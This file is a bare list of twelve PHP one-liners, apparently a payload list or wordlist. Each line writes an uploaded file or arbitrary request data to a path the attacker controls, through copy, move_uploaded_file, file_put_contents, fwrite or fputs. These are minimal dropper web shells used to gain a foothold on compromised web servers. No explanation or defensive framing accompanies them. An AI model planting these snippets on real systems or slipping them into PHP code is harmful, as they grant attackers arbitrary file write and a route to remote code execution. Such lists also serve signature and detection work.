<?php copy($_FILES['file']['tmp_name'], $_FILES['file']['name']); ?>
<?php copy($_FILES['file']['tmp_name'],$_FILES['file']['name']); ?>
<?php move_uploaded_file($_FILES['file']['tmp_name'],$_FILES['file']['name']); ?>
<?php move_uploaded_file($_FILES["file"]["tmp_name"], $_FILES["file"]["name"]); ?>
<?php move_uploaded_file($_FILES['upfile']['tmp_name'], $_POST['path']); ?>
<?php move_uploaded_file($_FILES['uploadfile']['tmp_name'], $_FILES['uploadfile']['name']); ?>
<?php file_put_contents($_GET['f'], $_GET['d']); ?>
<?php file_put_contents($_REQUEST['f'], $_REQUEST['d']); ?>
<?php fwrite(fopen($_POST['f'], 'w'), $_POST['d']); ?>
<?php fwrite(fopen($_GET['f'], 'w'), $_GET['d']); ?>
<?php fputs(fopen($_POST['f'], 'w'), $_POST['d']); ?>
<?php fputs(fopen($_GET['f'], 'w'), $_GET['d']); ?>
